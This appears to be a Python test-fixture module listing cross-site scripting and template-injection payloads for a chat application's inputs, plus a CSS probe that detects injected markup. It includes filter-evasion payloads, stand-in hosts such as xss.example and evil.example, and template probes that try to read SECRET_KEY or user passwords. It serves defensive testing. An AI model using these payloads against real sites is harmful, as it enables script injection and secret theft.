"""A corpus of cross-site scripting payloads for the chat's visitor and agent inputs.

Every payload that could run code does one of two observable things: it sets
``window.__xss`` (or the parent's/top's, from inside a frame) or opens a dialog
with ``alert``/``confirm``/``prompt``. Payloads that would only create markup carry
an ``xss`` id, class or ``data-xss`` attribute where they can, so ``MARKUP_PROBE``
finds them even when nothing runs.

``JAVASCRIPT_URLS`` are refused wherever a URL is stored (page views, current page);
``EMAILS`` are payloads that are nevertheless valid addresses and must be stored and
shown as text.
"""

from __future__ import annotations

import re

RUN = "window.__xss=1;alert(1)"

SCRIPT_TAGS = [
    f"<script>{RUN}</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<script src=data:,window.__xss=1></script>",
    "<script src=//xss.example/x.js id=xss></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "</script><script>window.__xss=1</script>",
    f'"></script><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<script\x20type='text/javascript'>window.__xss=1</script>",
    "<script>/*</script><script>*/window.__xss=1</script>",
    "<<script>window.__xss=1//<</script>",
    "<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>",
    "<script type=module>window.__xss=1</script>",
]

EVENT_HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" class=xss>',
    "<IMG SRC=x ONERROR=window.__xss=1>",
    '<img/src="x"/onerror=window.__xss=1>',
    "<img src=x onerror=window.__xss=1//",
    f"<svg onload={RUN}>",
    "<svg/onload=window.__xss=1 id=xss>",
    "<body onload=window.__xss=1>",
    f"<input autofocus onfocus={RUN} id=xss>",
    "<select autofocus onfocus=window.__xss=1 id=xss>",
    "<textarea autofocus onfocus=window.__xss=1 id=xss></textarea>",
    "<details open ontoggle=window.__xss=1 id=xss>",
    "<video><source onerror=window.__xss=1 id=xss></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<iframe onload=window.__xss=1 id=xss></iframe>",
    "<marquee onstart=window.__xss=1 id=xss>x</marquee>",
    "<div onmouseover=window.__xss=1 id=xss>hover</div>",
    "<a onclick=window.__xss=1 id=xss>click</a>",
    "<style onload=window.__xss=1 id=xss></style>",
    "<object data=x onerror=window.__xss=1 id=xss></object>",
    "<x contenteditable onfocus=window.__xss=1 autofocus id=xss>",
    "<div style=animation-name:spin onanimationstart=window.__xss=1 id=xss>",
    "<img src=x onerror=&#x77;indow.__xss=1>",
    "<img src=x onerror=\\u0077indow.__xss=1>",
    "<img src=`x` onerror=window.__xss=1>",
]

ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="window.__xss=1" data-xss="',
    "' onfocus='window.__xss=1' autofocus data-xss='",
    '" autofocus onfocus="window.__xss=1" x="',
    '"><img src=x onerror=window.__xss=1>',
    "'><img src=x onerror=window.__xss=1>",
    '" style="background:url(javascript:window.__xss=1)" data-xss="',
    "` onmouseover=window.__xss=1 data-xss=`",
    '"/><svg onload=window.__xss=1>',
    '" href="javascript:window.__xss=1" data-xss="',
    '" hx-get="/crm/" hx-trigger="load" data-xss="',
]

JAVASCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:window.__xss=1",
    "  javascript:window.__xss=1",
    "javascript://%0awindow.__xss=1",
    "jav&#x09;ascript:window.__xss=1",
    "javascript&colon;window.__xss=1",
    "java\u0000script:window.__xss=1",
    "\x01javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "ftp://evil.example/",
    "file:///etc/passwd",
]

JAVASCRIPT_LINKS = [
    '<a href="javascript:window.__xss=1" id=xss>x</a>',
    "<a href=JaVaScRiPt:alert(1) id=xss>x</a>",
    '<a href="jav&#x09;ascript:alert(1)" id=xss>x</a>',
    '<iframe src="javascript:top.__xss=1" id=xss></iframe>',
    "<form action=javascript:window.__xss=1 id=xss><button>x</button></form>",
    "<button formaction=javascript:window.__xss=1 id=xss>x</button>",
    '<base href="javascript:/" id=xss>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1" id=xss>',
    '<object data="javascript:window.__xss=1" id=xss></object>',
    '<embed src="javascript:window.__xss=1" id=xss>',
    "[click](javascript:window.__xss=1)",
    '![x](x" onerror="window.__xss=1)',
]

SVG_AND_MATHML = [
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s id=xss>",
    "<svg><set attributeName=onmouseover to=window.__xss=1 id=xss>",
    '<svg><a xlink:href="javascript:window.__xss=1" id=xss><text x=20 y=20>x</text></a></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.__xss=1</script>'></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=top.__xss=1 /></svg>#x" id=xss>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<math href="javascript:window.__xss=1" id=xss>click</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:window.__xss=1 id=xss>x</maction></math>",
    "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
    "<svg><title><img src=x onerror=window.__xss=1></title></svg>",
]

MUTATION_AND_PARSER_TRICKS = [
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<!--><img src=x onerror=window.__xss=1>-->",
    "<![CDATA[<img src=x onerror=window.__xss=1>]]>",
    "<xmp><img src=x onerror=window.__xss=1></xmp>",
    "<template><img src=x onerror=window.__xss=1></template><div id=xss></div>",
    "<iframe srcdoc='&lt;script&gt;parent.__xss=1&lt;/script&gt;' id=xss></iframe>",
    '<img src="x` `<script>window.__xss=1</script>"` `>',
    "<img src=x:alert(1) onerror=eval(src) id=xss>",
    "<div id=xss><img src=x onerror=window.__xss=1",
    "<plaintext><img src=x onerror=window.__xss=1>",
    "<isindex action=javascript:window.__xss=1 type=image id=xss>",
    "<keygen autofocus onfocus=window.__xss=1 id=xss>",
]

ENTITY_TRICKS = [
    "&lt;img src=x onerror=window.__xss=1&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "&#x3C;svg onload=window.__xss=1&#x3E;",
    "&amp;lt;script&amp;gt;window.__xss=1&amp;lt;/script&amp;gt;",
    "\\u003cimg src=x onerror=window.__xss=1\\u003e",
    "\\x3cscript\\x3ewindow.__xss=1\\x3c/script\\x3e",
    "%3Cscript%3Ewindow.__xss=1%3C%2Fscript%3E",
    "&quot; onmouseover=&quot;window.__xss=1",
    "&#0000060script&#0000062window.__xss=1",
    "＜script＞window.__xss=1＜/script＞",  # noqa: RUF001 (deliberate look-alike)
]

UNICODE_TRICKS = [
    "\u202egnp.exe",
    "\u202e<img src=x onerror=window.__xss=1>",
    "\u2066<svg onload=window.__xss=1>\u2069",
    "\u200f\u200e\u200b<script>window.__xss=1</script>",
    "\ufeff<img src=x onerror=window.__xss=1>",
    "a\u2028b\u2029c';window.__xss=1;//",
    "Zalgo: Z\u0335\u0321\u0322\u0327a\u0336\u0317l\u0337\u031ag\u0335o\u0334",
    "\U0001f4a9<img src=x onerror=window.__xss=1>\U0001f4a9",
    "<img src=x onerror=\u0077indow.__xss=1>",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{{request.user.password}}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "${alert(1)}",
    "`${window.__xss=1}`",
    "[[7*7]]",
    "{{=7*7}}",
    '<div hx-get="/crm/" hx-trigger="load" hx-swap="outerHTML" id=xss>htmx</div>',
    "<img src=x hx-on:htmx:load=window.__xss=1 hx-get=/crm/ hx-trigger=load id=xss>",
    '<div x-data x-init="window.__xss=1" id=xss></div>',
    "{{$on.constructor('window.__xss=1')()}}",
]

SCRIPT_CONTEXT_BREAKOUTS = [
    "';window.__xss=1;//",
    '";window.__xss=1;//',
    '"}]};window.__xss=1;//',
    "</script><img src=x onerror=window.__xss=1>",
    "'-window.__xss-'",
    "\\';window.__xss=1;//",
    '{"type":"message","body":"<img src=x onerror=window.__xss=1>"}',
]

CSS_TRICKS = [
    "<style>body{background:url('javascript:window.__xss=1')}</style>",
    '<div style="background-image:url(javascript:window.__xss=1)" id=xss>x</div>',
    "<link rel=stylesheet href=javascript:window.__xss=1 id=xss>",
    "<style>@import 'https://xss.example/x.css';</style>",
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss=1//>\\x3e",
    "'\"-->]]>*/</script></style></title></textarea><img src=x onerror=window.__xss=1>",
    "<svg/onload=window.__xss=1\x0c//",
]

EMAILS = [
    '"<svg/onload=window.__xss=1>"@example.com',
    '"<script>window.__xss=1</script>"@example.com',
    '"\'onmouseover=window.__xss=1"@example.com',
    '"{{7*7}}"@example.com',
    "${7*7}@example.com",
    "{{7*7}}@example.com",
]

# Longest message body the default settings accept, and strings past every cap.
LONG_STRINGS = [
    "A" * 5000,
    "<" * 4999 + "!",
    "<img src=x onerror=window.__xss=1>" * 140,  # 4760 characters
    "x" * 4900 + "<script>window.__xss=1</script>",
    "A" * 5001,
    "<svg onload=window.__xss=1>" * 1000,
]

PAYLOADS: list[str] = list(
    dict.fromkeys(
        SCRIPT_TAGS
        + EVENT_HANDLERS
        + ATTRIBUTE_BREAKOUTS
        + JAVASCRIPT_URLS
        + JAVASCRIPT_LINKS
        + SVG_AND_MATHML
        + MUTATION_AND_PARSER_TRICKS
        + ENTITY_TRICKS
        + UNICODE_TRICKS
        + TEMPLATE_INJECTION
        + SCRIPT_CONTEXT_BREAKOUTS
        + CSS_TRICKS
        + POLYGLOTS
        + EMAILS
        + LONG_STRINGS
    )
)

# Payloads with a tag that are harmless when parsed on their own: they only bite a
# naive filter (the split <script>), a tag left open into following markup, or a
# context other than element content. Every other tag-bearing payload must light up
# MARKUP_PROBE when parsed as HTML (test_xss checks this, so the probe stays sharp).
INERT_ON_THEIR_OWN = {
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<img src=x onerror=window.__xss=1//",
    "<body onload=window.__xss=1>",
    '<img src="x` `<script>window.__xss=1</script>"` `>',
    "<svg/onload=window.__xss=1\x0c//",
    # In HTML (not XML) "<![CDATA[" opens a bogus comment that ends at the first ">".
    "<![CDATA[<img src=x onerror=window.__xss=1>]]>",
}


def live_as_html() -> list[str]:
    """The payloads that create markup or run when a page parses them as HTML."""
    return [p for p in PAYLOADS if re.search("<[a-zA-Z]", p) and p not in INERT_ON_THEIR_OWN]


# Elements and attributes a payload would have created had it been parsed as HTML.
# The pages under test use none of them (each test checks its own clean baseline).
MARKUP_PROBE = ", ".join(
    [
        "#xss",
        ".xss",
        "[data-xss]",
        'img[src="x"]',
        'img[src="x:alert(1)"]',
        "[onerror]",
        "[onload]",
        "[onfocus]",
        "[onclick]",
        "[onmouseover]",
        "[ontoggle]",
        "[onbegin]",
        "[onstart]",
        "[onanimationstart]",
        '[href^="javascript:" i]',
        '[src^="javascript:" i]',
        '[action^="javascript:" i]',
        "[formaction]",
        "[srcdoc]",
        "[hx-on\\:htmx\\:load]",
        "[x-init]",
        'meta[http-equiv="refresh" i]',
        "base",
        "math",
        "marquee",
        "object",
        "embed",
        "xmp",
        "plaintext",
        "body style",
        "svg script",
        "svg animate",
        "svg set",
        "svg foreignObject",
        'script:not([src]):not([type="application/json"]):not([data-embed])',
        'script[src^="data:" i]',
        'script[src*="xss.example"]',
    ]
)
